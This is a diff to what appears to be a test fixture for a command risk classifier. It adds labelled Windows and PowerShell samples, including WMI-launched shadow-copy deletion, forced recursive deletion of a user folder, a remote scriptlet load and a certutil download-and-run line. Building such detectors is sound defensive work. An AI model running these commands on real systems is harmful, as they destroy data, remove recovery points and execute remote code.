@@ -63,6 +63,24 @@ const FAMILIES: Record<string, [command: string, level: Level][]> = {
     ["powershell -File scripts\\build.ps1", "medium"],
     ["Invoke-Command -ComputerName web01 -ScriptBlock { Stop-Service W3SVC }", "critical"],
   ],
+  "code handed to programs no rule names": [
+    [
+      'Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList "cmd /c vssadmin delete shadows /all"',
+      "critical",
+    ],
+    [
+      'Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine="notepad.exe"}',
+      "medium",
+    ],
+    ["Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList $cmd", "high"],
+    ["Add-Type -TypeDefinition $source", "high"],
+    ["Add-Type -AssemblyName System.Windows.Forms", "low"],
+    ["Start-Job -ScriptBlock { Remove-Item -Recurse -Force C:\\Users\\dev }", "critical"],
+    ["Start-Job -ScriptBlock { Get-Process }", "medium"],
+    ["viewer.exe /i:https://example.org/x.sct", "critical"],
+    ["helper.exe vbscript:Execute(x)", "high"],
+    ["code app.hta", "medium"],
+  ],
   downloads: [
     ["certutil.exe -urlcache -f http://example.org/x.txt x.txt", "medium"],
     ["certutil -urlcache -split -f https://example.org/p.exe p.exe & p.exe", "critical"],
